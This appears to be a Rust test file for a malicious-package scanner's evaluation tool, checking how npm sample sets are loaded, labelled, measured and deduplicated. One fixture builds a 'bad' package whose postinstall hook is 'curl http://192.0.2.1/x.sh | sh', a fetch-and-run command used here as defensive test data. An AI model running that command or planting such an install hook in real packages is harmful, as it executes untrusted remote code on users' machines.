//! What is found in a set, and what is measured of it.

use flate2::Compression;
use flate2::write::GzEncoder;
use std::path::Path;
use std::process::Command;
use trustmill_core::scan::Conclusion;
use trustmill_evaluate::label::{Label, Part};
use trustmill_evaluate::measure::{Options, measure};
use trustmill_evaluate::set::{Item, SetError, folder, git};
use trustmill_evaluate::{render, summary};

/// An npm package whose installing runs a command.
fn package(version: &str, postinstall: Option<&str>) -> Vec<u8> {
    let scripts = postinstall.map(|command| format!(r#", "scripts": {{"postinstall": "{command}"}}"#));
    let manifest = format!(r#"{{"name": "x", "version": "{version}"{}}}"#, scripts.unwrap_or_default());
    let mut tar = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (path, text) in
        [("package/package.json", manifest.as_str()), ("package/index.js", "module.exports = 1\n")]
    {
        let mut header = tar::Header::new_ustar();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, path, text.as_bytes()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

fn put(root: &Path, path: &str, bytes: &[u8]) {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

fn paths(items: &[Item]) -> Vec<&str> {
    items.iter().map(|item| item.path.as_str()).collect()
}

#[test]
fn a_folder_of_archives_folders_and_pairs_is_a_set() {
    let root = tempfile::tempdir().unwrap();
    put(root.path(), "malware/npm/y/package.json", b"{}");
    put(root.path(), "malware/npm/y/package.js", b"1");
    put(root.path(), "malware/x-1.0.1.tgz", &package("1.0.1", None));
    put(root.path(), "good/x-0.9.0.tgz", &package("0.9.0", None));
    put(root.path(), "good/x-1.0.0.tgz", &package("1.0.0", None));
    put(root.path(), "good/z@2.0.0/current.tgz", &package("2.0.0", None));
    put(root.path(), "good/z@2.0.0/previous.tgz", &package("1.0.0", None));
    put(root.path(), "good/z@2.0.0/context.json", br#"{"young_dependencies": ["w"]}"#);
    put(root.path(), "elsewhere/q-1.0.0.tgz", b"");
    let items = folder::items(root.path()).unwrap();
    assert_eq!(
        paths(&items),
        [
            "good/x-0.9.0.tgz",
            "good/x-1.0.0.tgz",
            "good/z@2.0.0/current.tgz",
            "malware/npm/y",
            "malware/x-1.0.1.tgz"
        ]
    );
    let before = |at: usize| items[at].previous.as_ref().map(|(version, _)| version.as_str());
    assert_eq!(before(4), Some("1.0.0"), "a hijacked release is compared with the newest good one");
    assert_eq!(before(1), Some("0.9.0"));
    assert_eq!(before(0), None);
    assert_eq!(items[2].context.young_dependencies, ["w"]);
    assert_eq!((items[3].label, items[3].ecosystem.as_str()), (Label::Malicious, "npm"));
}

#[test]
fn what_is_measured_adds_up() {
    let root = tempfile::tempdir().unwrap();
    let fetches = "curl http://192.0.2.1/x.sh | sh";
    put(root.path(), "bad/npm/x-1.0.0.tgz", &package("1.0.0", Some(fetches)));
    put(root.path(), "bad/npm/y-1.0.0.tgz", &package("1.0.0", None));
    put(root.path(), "good/npm/z-1.0.0.tgz", &package("1.0.0", None));
    let measured = measure(&folder::items(root.path()).unwrap(), Options::default());
    assert_eq!(measured.outcomes.len(), 3);
    let summary = summary::summary(&measured);
    let all = &summary.ecosystems["all"];
    let held = measured.outcomes.iter().filter(|outcome| outcome.conclusion >= Conclusion::Hold).count();
    assert_eq!((all.caught.count, all.caught.of), (held, 2));
    assert_eq!((all.wrongly_held.count, all.wrongly_held.of), (0, 1));
    let text = render::text(&summary, &measured, true);
    assert!(text.contains("missed bad/npm/y-1.0.0.tgz"), "{text}");
    let parts = [Part::Work, Part::HeldOut].map(|part| {
        let options = Options { part, ..Options::default() };
        measure(&folder::items(root.path()).unwrap(), options).outcomes.len()
    });
    assert_eq!(parts.iter().sum::<usize>(), 3, "the parts are the whole");
}

#[test]
fn the_same_code_under_two_names_counts_once() {
    let root = tempfile::tempdir().unwrap();
    put(root.path(), "bad/npm/x-1.0.0.tgz", &package("1.0.0", None));
    put(root.path(), "bad/npm/y-1.0.1.tgz", &package("1.0.1", None));
    let options = Options { distinct: true, ..Options::default() };
    let measured = measure(&folder::items(root.path()).unwrap(), options);
    assert_eq!((measured.outcomes.len(), measured.repeated), (1, 1));
}

#[test]
fn a_repository_is_read_without_writing_anything() {
    let root = tempfile::tempdir().unwrap();
    let run = |arguments: &[&str]| {
        let identity = ["-c", "user.name=n", "-c", "user.email=n@example.com"];
        let status = Command::new("git")
            .arg("-C")
            .arg(root.path())
            .args(identity)
            .args(arguments)
            .env("GIT_COMMITTER_DATE", "2026-03-01T00:00:00Z")
            .status()
            .unwrap();
        assert!(status.success());
    };
    run(&["init", "-q"]);
    put(root.path(), "x/1.0.0/x-1.0.0.tgz", &package("1.0.0", None));
    put(root.path(), "README.md", b"malware");
    run(&["add", "."]);
    run(&["commit", "-q", "-m", "samples"]);
    let repository = root.path().join(".git");
    let wanted = git::Wanted {
        label: Some(Label::Malicious),
        since: Some("2026-01-01".into()),
        ..git::Wanted::default()
    };
    let items = git::items(&repository, &wanted).unwrap();
    assert_eq!(paths(&items), ["x/1.0.0/x-1.0.0.tgz"]);
    let measured = measure(&items, Options::default());
    assert_eq!((measured.outcomes.len(), measured.unread.len()), (1, 0));
    let late = git::Wanted { since: Some("2026-03-02".into()), ..wanted };
    assert!(matches!(git::items(&repository, &late), Err(SetError::Empty { .. })));
}
